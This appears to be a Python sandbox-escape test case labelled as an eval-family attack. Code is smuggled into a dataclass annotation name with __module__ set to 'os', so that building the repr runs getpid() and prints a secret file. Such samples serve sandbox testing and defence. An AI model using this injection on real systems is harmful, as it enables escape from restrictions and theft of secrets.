# attack: the text that dataclasses executes runs in the module that the class names as its own: os, with os' builtins
# family: eval
import dataclasses
@dataclasses.dataclass(init=False, eq=False)
class Thing:
    __module__ = "os"
    __annotations__ = {"x,print('REACHED',getpid()),print(__import__('io').open('$SECRET_FILE').read())": int}
    x = 0
repr(Thing())
